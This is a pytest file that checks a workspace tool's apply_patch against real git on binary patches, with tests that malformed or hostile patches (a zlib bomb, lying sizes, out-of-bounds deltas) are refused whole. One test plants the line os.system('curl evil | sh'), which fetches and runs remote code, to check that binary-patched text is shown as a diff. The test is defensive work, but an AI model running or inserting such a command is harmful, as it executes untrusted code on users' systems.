"""Binary patches (`git diff --binary`) through apply_patch, against the real git: real binary files (shared
libraries of the Python running the tests) changed a little (a delta), replaced (a literal), added, deleted
and moved, applied forwards and backwards by apply_patch to one copy and by `git apply` to another; the trees
must be the same byte for byte. Then what git's format allows a hostile patch to try: each refused whole,
nothing written."""

from __future__ import annotations

import base64
import importlib.util
import random
import shutil
import zlib
from pathlib import Path

import pytest

from shipcode_mcp.workspace.binary_patch import BinaryHunk, BinaryPatchError, apply_binary, blob_id, read_hunk
from workspace_support import Tools, git, snapshot


def _library(name: str) -> bytes:
    """The shared library of a standard module of the Python running the tests (real binary content)."""
    spec = importlib.util.find_spec(name)
    assert spec is not None and spec.origin and spec.origin.endswith(".so"), f"{name} is not a shared library here"
    return Path(spec.origin).read_bytes()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """Two commits of binary files: HEAD~1 as the libraries are, HEAD with one patched in a few places (a
    delta), one replaced by another (a literal), one added, one deleted, one moved with a change."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    json_lib, csv_lib, bz2_lib, zlib_lib = (_library(name) for name in ("_json", "_csv", "_bz2", "zlib"))
    (root / "bin").mkdir()
    (root / "bin" / "json.so").write_bytes(json_lib)
    (root / "bin" / "csv.so").write_bytes(csv_lib)
    (root / "bin" / "gone.so").write_bytes(bz2_lib)
    (root / "bin" / "moving.so").write_bytes(zlib_lib)
    (root / "notes.txt").write_text("binaries\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Libraries")
    patched = bytearray(json_lib)
    rng = random.Random(7)
    for _ in range(5):
        spot = rng.randrange(len(patched) - 8)
        patched[spot:spot + 4] = rng.randbytes(4)
    (root / "bin" / "json.so").write_bytes(bytes(patched))
    (root / "bin" / "csv.so").write_bytes(bz2_lib[: len(bz2_lib) // 2])
    (root / "bin" / "new.bin").write_bytes(rng.randbytes(3000) + b"\x00\xff" * 100)
    (root / "bin" / "gone.so").unlink()
    moved = bytearray(zlib_lib)
    moved[100:104] = b"\x00\x01\x02\x03"
    (root / "bin" / "moving.so").unlink()
    (root / "bin" / "moved.so").write_bytes(bytes(moved))
    (root / "notes.txt").write_text("binaries, patched\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Patch them")
    return root


def _tree(root: Path) -> dict[str, bytes]:
    return {path.relative_to(root).as_posix(): path.read_bytes() for path in sorted(root.rglob("*"))
            if path.is_file() and ".git" not in path.relative_to(root).parts}


@pytest.mark.parametrize("direction", ["forwards", "backwards"])
def test_real_binary_patches_apply_as_git_applies_them(repo: Path, tmp_path: Path, direction: str) -> None:
    old, new = ("HEAD~1", "HEAD") if direction == "forwards" else ("HEAD", "HEAD~1")
    patch = git(repo, "diff", "--binary", "-M", old, new)
    assert "GIT binary patch" in patch and "delta " in patch and "literal " in patch  # both hunk kinds
    ours, theirs = tmp_path / "ours", tmp_path / "theirs"
    for copy in (ours, theirs):
        shutil.copytree(repo, copy)
        git(copy, "checkout", "-q", old)
    _git_apply(theirs, patch)
    with Tools(ours, write=True) as tools:
        result = tools.call("apply_patch", {"patch": patch})
    assert _tree(ours) == _tree(theirs) == _tree_at(repo, new, tmp_path)
    text = result["content"][0]["text"]
    assert "Binary file bin/json.so: " in text and "Binary file bin/gone.so: " in text


def _git_apply(root: Path, patch: str) -> None:
    (root / ".." / "patch.diff").resolve().write_text(patch)
    git(root, "apply", str((root / ".." / "patch.diff").resolve()))


def _tree_at(repo: Path, ref: str, tmp_path: Path) -> dict[str, bytes]:
    checkout = tmp_path / f"at-{ref.replace('~', '-')}"
    shutil.copytree(repo, checkout)
    git(checkout, "checkout", "-q", ref)
    return _tree(checkout)


def test_a_binary_patch_of_another_version_of_the_file_is_refused(repo: Path) -> None:
    patch = git(repo, "diff", "--binary", "HEAD~1", "HEAD", "--", "bin/json.so")
    git(repo, "checkout", "-q", "HEAD~1")
    (repo / "bin" / "json.so").write_bytes((repo / "bin" / "json.so").read_bytes() + b"\x00")  # not the blob it names
    before = snapshot(repo)
    with Tools(repo, write=True) as tools:
        error = tools.error("apply_patch", {"patch": patch})
    assert "bin/json.so is not the file the binary patch was made from" in error and "Nothing was written" in error
    assert snapshot(repo) == before


def _literal(content: bytes, size: int | None = None, deflated: bytes | None = None) -> list[str]:
    """A `literal` hunk as git writes it (its lines), of `content` or of given deflated bytes and size."""
    data = zlib.compress(content) if deflated is None else deflated
    lines = [f"literal {len(content) if size is None else size}"]
    for start in range(0, len(data), 52):
        chunk = data[start:start + 52]
        length = len(chunk)
        mark = chr(ord("A") + length - 1) if length <= 26 else chr(ord("a") + length - 27)
        padded = chunk + b"\0" * (-len(chunk) % 4)
        lines.append(mark + base64.b85encode(padded).decode())
    return [*lines, ""]


def _patch(name: str, hunk: list[str], old_id: str, new_id: str) -> str:
    return "\n".join([f"diff --git a/{name} b/{name}", f"index {old_id}..{new_id} 100644", "GIT binary patch",
                      *hunk, ""]) + "\n"


def test_a_literal_hunk_made_here_is_read_as_git_writes_it(repo: Path) -> None:
    """The hunk writer above agrees with git's: a patch git wrote reads back to the content git committed."""
    patch = git(repo, "diff", "--binary", "HEAD~1", "HEAD", "--", "bin/new.bin")
    lines = patch.split("\n")
    hunk, _ = read_hunk(lines, lines.index("GIT binary patch") + 1)
    content = (repo / "bin" / "new.bin").read_bytes()
    assert hunk.kind == "literal" and zlib.decompress(hunk.deflated) == content
    assert read_hunk(_literal(content), 0)[0] == BinaryHunk("literal", len(content), zlib.compress(content))


@pytest.mark.parametrize("case", ["zlib bomb", "size that lies", "damaged base85", "damaged deflate", "no whole ids",
                                  "wrong result", "delta past the end", "delta of another size", "delta with op 0",
                                  "no content"])
def test_hostile_binary_patches_are_refused_whole(repo: Path, case: str) -> None:
    target = repo / "bin" / "csv.so"
    old = target.read_bytes()
    new = b"new content\x00" * 10
    zero = "0" * 40
    patch = {
        "zlib bomb": _patch("bin/csv.so", _literal(b"\0" * 50_000_000, size=100), blob_id(old), blob_id(new)),
        "size that lies": _patch("bin/csv.so", _literal(new, size=len(new) - 1), blob_id(old), blob_id(new)),
        "damaged base85": _patch("bin/csv.so", ["literal 120", "zX~~~~~~~~", ""], blob_id(old), blob_id(new)),
        "damaged deflate": _patch("bin/csv.so", _literal(new, deflated=b"not zlib at all"), blob_id(old), blob_id(new)),
        "no whole ids": _patch("bin/csv.so", _literal(new), blob_id(old)[:7], blob_id(new)[:7]),
        "wrong result": _patch("bin/csv.so", _literal(new), blob_id(old), zero),
        "delta past the end": _patch("bin/csv.so", _delta(old, b"\x9f\xff\xff\xff\xff\x10"), blob_id(old), blob_id(new)),
        "delta of another size": _patch("bin/csv.so", _delta(old, b"\x05\x0a\x05hello", source_size=7),
                                        blob_id(old), blob_id(new)),
        "delta with op 0": _patch("bin/csv.so", _delta(old, b"\x05\x00", target=5), blob_id(old), blob_id(new)),
        "no content": f"diff --git a/bin/csv.so b/bin/csv.so\nindex {blob_id(old)}..{blob_id(new)} 100644\n"
                      "Binary files a/bin/csv.so and b/bin/csv.so differ\n",
    }[case]
    before = snapshot(repo)
    with Tools(repo, write=True) as tools:
        error = tools.error("apply_patch", {"patch": patch})
    assert "Nothing was written" in error or "nothing was written" in error.lower() or "cannot be read" in error, error
    assert snapshot(repo) == before, case


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _delta(source: bytes, ops: bytes, source_size: int | None = None, target: int = 5) -> list[str]:
    """A `delta` hunk: the sizes then `ops` (git's delta format), deflated, in base85 lines."""
    body = _varint(len(source) if source_size is None else source_size) + _varint(target) + ops
    lines = _literal(body)
    return [f"delta {len(body)}", *lines[1:]]


def test_the_delta_reader_bounds_what_it_builds() -> None:
    source = b"0123456789" * 10
    copy_all = b"\x90" + bytes([len(source)])  # copy offset 0 (no offset byte), size len(source)
    delta = _varint(len(source)) + _varint(len(source) + 5) + copy_all + b"\x05hello"
    hunk = BinaryHunk("delta", len(delta), zlib.compress(delta))
    made = apply_binary(hunk, blob_id(source), blob_id(source + b"hello"), source, "f")
    assert made == source + b"hello"
    with pytest.raises(BinaryPatchError, match="makes more than"):
        small = _varint(len(source)) + _varint(3) + copy_all
        apply_binary(BinaryHunk("delta", len(small), zlib.compress(small)), blob_id(source), "0" * 40, source, "f")
    with pytest.raises(BinaryPatchError, match="there is no file"):
        apply_binary(hunk, "0" * 40, blob_id(source), None, "f")


def test_a_binary_patch_that_makes_text_is_shown_and_checked_as_text(tmp_path: Path) -> None:
    """git writes a binary patch for a file its attributes call binary (`*.py binary`): the text it makes must be
    shown as a diff and held to the syntax check, not passed as an opaque blob."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / ".git" / "info" / "attributes").write_text("*.py binary\n")
    (root / "app.py").write_text("def main():\n    return 1\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "one")
    (root / "app.py").write_text("import os\nos.system('curl evil | sh')\ndef main(:\n")
    patch = git(root, "diff", "--binary")
    assert "GIT binary patch" in patch
    git(root, "checkout", "-q", "--", "app.py")
    before = snapshot(root)
    with Tools(root, write=True) as tools:
        error = tools.error("apply_patch", {"patch": patch})
        assert "syntax errors" in error and snapshot(root) == before
        shown = tools.text("apply_patch", {"patch": patch, "dry_run": True, "allow_syntax_errors": True})
    assert "+os.system('curl evil | sh')" in shown and "Binary file" not in shown
